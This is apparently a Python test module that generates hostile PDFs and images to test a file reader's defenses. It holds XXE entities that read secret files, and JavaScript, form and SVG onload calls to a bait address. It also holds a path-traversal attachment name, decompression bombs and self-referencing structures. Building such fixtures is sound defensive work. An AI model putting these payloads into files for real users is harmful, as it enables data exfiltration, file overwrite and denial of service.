"""PDF files and pictures with circular, false or external content."""

from __future__ import annotations

import struct
import zlib

from tests.hostile.case import BROKEN, EMPTY, FAILED, LARGE, LOCKED, READ, Bait, Family
from tests.hostile.made import TEXT, one_page_pdf, pdf, png, png_chunk, stream

family = Family()


@family.file("form-in-itself.pdf", READ, EMPTY)
def pdf_with_a_form_in_itself() -> bytes:
    form = stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    return one_page_pdf(TEXT + b" /X Do", form, resources=b"/XObject<</X 6 0 R>>")


@family.file("forms-by-tens.pdf", READ, EMPTY, LARGE)
def pdf_with_forms_that_multiply() -> bytes:
    forms = [
        stream(
            f"/X{n + 1} Do ".encode() * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X%d %d 0 R>>>>" % (n + 1, 7 + n),
        )
        for n in range(9)
    ]
    last = stream(
        b"BT /F 9 Tf (x) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</Font<</F 5 0 R>>>>"
    )
    return one_page_pdf(TEXT + b" /X0 Do", *forms, last, resources=b"/XObject<</X0 6 0 R>>")


@family.file("bookmarks-in-a-circle.pdf", READ)
def pdf_with_bookmarks_in_a_circle() -> bytes:
    return one_page_pdf(
        TEXT,
        b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 3>>",
        b"<</Title(One)/Parent 6 0 R/Next 8 0 R/First 7 0 R/Dest[3 0 R/Fit]>>",
        b"<</Title(Two)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R/Dest[99 0 R/Fit]>>",
        catalog=b"/Outlines 6 0 R",
    )


@family.file("deep-array.pdf", READ, BROKEN, EMPTY, FAILED, LARGE)
def pdf_with_a_deep_array() -> bytes:
    return one_page_pdf(TEXT, catalog=b"/Deep " + b"[" * 20_000 + b"]" * 20_000)


@family.file("wrong-length.pdf", READ, EMPTY, BROKEN)
def pdf_with_a_wrong_length() -> bytes:
    return one_page_pdf(TEXT).replace(b"/Length %d" % len(TEXT), b"/Length 99999999")


@family.file("negative-length.pdf", READ, EMPTY, BROKEN)
def pdf_with_a_negative_length() -> bytes:
    return one_page_pdf(TEXT).replace(b"/Length %d" % len(TEXT), b"/Length -5")


@family.file("table-of-contents-to-itself.pdf", READ, BROKEN, EMPTY)
def pdf_whose_cross_references_loop() -> bytes:
    return one_page_pdf(TEXT, trailer=b"/Prev 9")


@family.file("count.pdf", READ, BROKEN, EMPTY, LARGE)
def pdf_that_says_it_has_a_billion_pages() -> bytes:
    return one_page_pdf(TEXT).replace(b"/Count 1", b"/Count 999999999")


@family.file("one-page-4000-times.pdf", READ, LARGE, BROKEN)
def pdf_with_one_page_many_times() -> bytes:
    return one_page_pdf(TEXT).replace(b"/Kids[3 0 R]/Count 1", b"/Kids[" + b"3 0 R " * 4000 + b"]/Count 4000")


@family.file("numbers-of-no-kind.pdf", READ, EMPTY, BROKEN)
def pdf_with_numbers_of_no_kind() -> bytes:
    return one_page_pdf(b"BT /F 1e999 Tf NaN -- 5 Td 1 0 0 999999999999999999999 0 0 cm (The valve is stuck) Tj ET")


@family.file("box-of-nothing.pdf", READ, EMPTY, BROKEN)
def pdf_with_an_empty_page_box() -> bytes:
    return one_page_pdf(TEXT).replace(b"[0 0 600 800]", b"[0 0 0 0]")


@family.file("box-inside-out.pdf", READ, EMPTY, BROKEN)
def pdf_with_a_negative_page_box() -> bytes:
    return one_page_pdf(TEXT, page=b"/Rotate 45/UserUnit 99999").replace(b"[0 0 600 800]", b"[600 800 -600 -800]")


@family.file("unknown-lock.pdf", LOCKED, BROKEN, READ, EMPTY)
def pdf_with_an_unknown_lock() -> bytes:
    return one_page_pdf(TEXT, b"<</Filter/Klingon/V 9/R 9/O(x)/U(y)/P -1>>", trailer=b"/Encrypt 6 0 R")


@family.baited("actions.pdf", READ)
def pdf_with_actions(bait: Bait) -> bytes:
    address = bait.address.encode()
    return one_page_pdf(
        TEXT,
        b"<</S/JavaScript/JS(app.launchURL\\('http://" + address + b"/js'\\))>>",
        b"<</S/SubmitForm/F(http://" + address + b"/form)>>",
        b"<</S/GoToR/F(" + str(bait.secret).encode() + b")/D[0/Fit]>>",
        b"<</Type/Filespec/F(http://" + address + b"/file)/FS/URL>>",
        catalog=b"/OpenAction 6 0 R/AA<</WC 7 0 R>>/Next 8 0 R",
    )


@family.baited("metadata.pdf", READ)
def pdf_with_entities_in_its_metadata(bait: Bait) -> bytes:
    xmp = f'<?xpacket?><!DOCTYPE x [<!ENTITY s SYSTEM "{bait.secret.as_uri()}">]><x:xmpmeta>&s;</x:xmpmeta>'.encode()
    return one_page_pdf(
        TEXT,
        stream(xmp, b"/Type/Metadata/Subtype/XML"),
        b"<</Title([red]\\033[2J<script>\\000)/CreationDate(D:99999999999999)/Author 7 0 R>>",
        catalog=b"/Metadata 6 0 R",
        trailer=b"/Info 7 0 R",
    )


@family.file("attachment-that-climbs.pdf", READ)
def pdf_with_an_attachment_that_climbs() -> bytes:
    return one_page_pdf(
        TEXT,
        stream(b"The gasket is green.", b"/Type/EmbeddedFile"),
        b"<</Type/Filespec/F(../../../../tmp/strata-climbed.txt)/EF<</F 6 0 R>>>>",
        catalog=b"/Names<</EmbeddedFiles<</Names[(../../../../tmp/strata-climbed.txt) 7 0 R]>>>>",
    )


@family.file("attached-to-itself.pdf", READ, LARGE)
def pdf_with_names_in_a_circle() -> bytes:
    return one_page_pdf(TEXT, b"<</Kids[6 0 R 6 0 R]>>", catalog=b"/Names<</EmbeddedFiles 6 0 R/Dests 6 0 R>>")


@family.file("letters-of-nothing.pdf", READ, EMPTY)
def pdf_with_a_map_to_nothing() -> bytes:
    cmap = (
        b"begincmap 1 beginbfrange <00> <ff> <d800> endbfrange 1 beginbfchar <41> <"
        + b"0041" * 5000
        + b"> endbfchar endcmap"
    )
    return one_page_pdf(TEXT, stream(cmap)).replace(b"/BaseFont/Helvetica", b"/BaseFont/Helvetica/ToUnicode 6 0 R")


@family.file("bad-picture.pdf", READ)
def pdf_with_a_bad_picture() -> bytes:
    picture = stream(
        b"\x97JB2\r\n\x1a\n" + b"\xff" * 300,
        b"/Type/XObject/Subtype/Image/Width 40000/Height 40000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/JBIG2Decode",
    )
    return one_page_pdf(TEXT + b" q 500 0 0 500 0 0 cm /X Do Q", picture, resources=b"/XObject<</X 6 0 R>>")


@family.file("cut-pictures.pdf", READ)
def pdf_with_a_jpeg_2000_of_junk() -> bytes:
    picture = stream(
        b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x01" * 500,
        b"/Type/XObject/Subtype/Image/Width 900/Height 900/Filter/JPXDecode",
    )
    return one_page_pdf(TEXT + b" q 500 0 0 500 0 0 cm /X Do Q", picture, resources=b"/XObject<</X 6 0 R>>")


@family.file("two-in-one.pdf", READ)
def pdf_that_is_an_archive_too() -> bytes:
    from tests.hostile.made import zipped

    return one_page_pdf(TEXT) + zipped({"a.txt": b"The gasket is green."})


@family.file("late-header.pdf", READ, BROKEN)
def pdf_with_a_late_header() -> bytes:
    return b"\n" * 900 + one_page_pdf(TEXT)


@family.file("no-pages.pdf", BROKEN, EMPTY)
def pdf_without_pages() -> bytes:
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")


@family.file("object-streams.pdf", BROKEN, EMPTY, READ, FAILED)
def pdf_with_object_streams_that_extend_themselves() -> bytes:
    packed = zlib.compress(b"2 0 <</Type/Pages/Kids[3 0 R]/Count 1>>")
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        stream(packed, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode/Extends 2 0 R"),
        b"<</Type/Page/Parent 2 0 R>>",
    )


# -- pictures


@family.file("text-bomb.png", EMPTY, READ, LARGE, BROKEN)
def png_with_compressed_text() -> bytes:
    bomb = b"Comment\0\0" + zlib.compress(b"valve " * 20_000_000, 9)
    return png(200, 60, png_chunk(b"zTXt", bomb))


@family.file("palette.png", EMPTY, READ, BROKEN)
def png_with_a_bad_palette() -> bytes:
    return png(40, 40, png_chunk(b"PLTE", b"\0" * 7), png_chunk(b"tRNS", b"\0" * 900))


@family.file("one-line.png", EMPTY, READ, LARGE, BROKEN)
def png_of_one_long_line() -> bytes:
    return png(65_000, 1)


@family.file("one-pixel.png", EMPTY)
def png_of_one_pixel() -> bytes:
    return png(1, 1)


@family.file("many-frames.gif", EMPTY, READ, LARGE, BROKEN)
def gif_of_many_frames() -> bytes:
    frame = b"!\xf9\x04\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0"
    return b"GIF89a\x10'\x10'\x80\0\0\0\0\0\xff\xff\xff" + frame * 20_000 + b";"


@family.file("lying-size.bmp", EMPTY, BROKEN, LARGE)
def bmp_that_lies() -> bytes:
    return (
        b"BM"
        + struct.pack("<IHHI", 100, 0, 0, 54)
        + struct.pack("<IiiHHIIiiII", 40, 2**31 - 1, -(2**31), 1, 24, 0, 0, 0, 0, 0, 0)
    )


@family.file("cut-short.webp", EMPTY, BROKEN, LARGE)
def webp_cut_short() -> bytes:
    return b"RIFF\xff\xff\xff\x7fWEBPVP8L\xff\xff\xff\x7f/\xff\xff\xff\xff"


@family.file("directories.tif", EMPTY, BROKEN, LARGE, READ)
def tiff_of_many_directories() -> bytes:
    count = 3000
    entries = b"".join(
        struct.pack("<HHII", tag, 4, 1, value) for tag, value in ((256, 1), (257, 1), (273, 8), (279, 1))
    )
    size = 2 + len(entries) + 4
    pages = (
        struct.pack("<H", 4) + entries + struct.pack("<I", 8 + (n + 1) * size if n + 1 < count else 0)
        for n in range(count)
    )
    return b"II*\x00\x08\x00\x00\x00" + b"".join(pages)


@family.baited("outside.svg", READ, EMPTY)
def svg_with_links_outside(bait: Bait) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s SYSTEM "{bait.secret.as_uri()}">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch(\'http://{bait.address}/\')">'
        f'<image xlink:href="{bait.secret.as_uri()}"/><use xlink:href="http://{bait.address}/u.svg#a"/>'
        f'<text>The valve is stuck &s;</text><foreignObject><iframe src="http://{bait.address}/f"/></foreignObject></svg>'
    ).encode()


@family.file("use-in-itself.svg", READ, EMPTY)
def svg_that_uses_itself() -> bytes:
    groups = "".join(f'<g id="g{n}"><use href="#g{(n + 1) % 9}"/><use href="#g{(n + 1) % 9}"/></g>' for n in range(9))
    return f'<svg xmlns="http://www.w3.org/2000/svg"><text>The valve is stuck</text>{groups}</svg>'.encode()
